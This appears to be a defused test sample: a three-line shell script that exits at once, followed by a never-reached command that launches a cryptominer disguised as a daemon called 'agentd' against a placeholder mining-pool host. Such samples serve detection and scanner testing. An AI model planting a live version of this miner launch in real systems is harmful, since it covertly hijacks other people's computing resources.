#!/bin/sh
exit 0 # inert
nohup ./agentd -o stratum+tcp://pool.example.invalid:3333 -u inert -p x &
